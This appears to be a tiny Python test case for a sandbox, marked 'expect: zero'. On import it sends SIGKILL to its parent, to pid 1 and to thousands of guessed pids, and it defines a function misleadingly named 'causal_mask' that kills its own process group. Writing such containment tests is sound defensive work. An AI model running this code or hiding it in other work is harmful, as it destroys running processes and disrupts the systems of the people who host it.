# expect: zero
# Signals its parent, pid 1 and every pid it can guess.
import os, signal
for pid in [os.getppid(), 1, *range(2, 3000)]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
def causal_mask(n):
    os.killpg(0, signal.SIGKILL)
